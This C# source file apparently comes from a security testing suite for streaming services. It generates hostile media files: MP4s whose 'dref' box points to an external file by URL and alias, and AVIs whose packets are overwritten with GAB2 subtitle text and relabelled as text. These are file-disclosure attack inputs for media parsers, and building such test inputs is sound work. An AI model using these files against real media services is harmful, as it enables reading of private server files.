using System.Text;

namespace Streaming.Attacks.Media;

/// <summary>Films that name another file inside.</summary>
internal static class Mp4References
{
    /// <summary>The film with its data said to lie elsewhere: references by address ("url ") and by alias ("alis"), in QuickTime's way.</summary>
    public static byte[] External(Film film, string target)
    {
        List<Chunk> boxes = new Mp4Form().Parse(film.Bytes);
        byte[] name = Encoding.UTF8.GetBytes(target);
        byte[] entries =
        [
            0, 0, 0, 0, 0, 0, 0, 2, // version, flags, two entries
            .. Entry("url ", [.. name, 0]), .. Entry("alis", Alias(name)),
        ];
        foreach (Chunk holder in boxes.SelectMany(box => box.All()).ToArray())
        {
            for (int i = 0; i < holder.Inside.Count; i++)
                if (holder.Inside[i].Id.AsSpan().SequenceEqual("dref"u8))
                    holder.Inside[i] = Chunk.Leaf("dref"u8.ToArray(), entries);
        }
        using var changed = new MemoryStream();
        foreach (Chunk box in boxes)
            new Mp4Form().Write(changed, box);
        return changed.ToArray();
    }

    /// <summary>The film with a text in place of its first packets, in the form in which AVI carries subtitles (GAB2).</summary>
    public static byte[] Subtitles(Film film, string text)
    {
        byte[] changed = [.. film.Bytes], block = [.. "GAB2\0\u0002\0\0\0\0\0\u0004\0\0\0\0\0"u8, .. Encoding.ASCII.GetBytes(text)];
        int at = changed.AsSpan().IndexOf("movi"u8) + 4 + 8;
        block.AsSpan(0, Math.Min(block.Length, changed.Length - at)).CopyTo(changed.AsSpan(at));
        int kind = changed.AsSpan().IndexOf("vids"u8);
        "txts"u8.CopyTo(changed.AsSpan(kind));
        return changed;
    }

    private static byte[] Entry(string type, byte[] payload)
    {
        int size = 12 + payload.Length;
        return [(byte)(size >> 24), (byte)(size >> 16), (byte)(size >> 8), (byte)size, .. Encoding.ASCII.GetBytes(type), 0, 0, 0, 0, .. payload];
    }

    /// <summary>An alias record: 150 bytes of volume and file names, then typed parts, of which 2 is the path and 18 the whole path.</summary>
    private static byte[] Alias(byte[] name)
    {
        var head = new byte[150];
        head[7] = 2;
        head[8 + 1] = 1;
        return [.. head, .. Part(2, name), .. Part(18, name), 0xff, 0xff, 0, 0];
    }

    private static byte[] Part(int type, byte[] name) => [0, (byte)type, (byte)(name.Length >> 8), (byte)name.Length, .. name, .. name.Length % 2 == 1 ? new byte[1] : []];
}
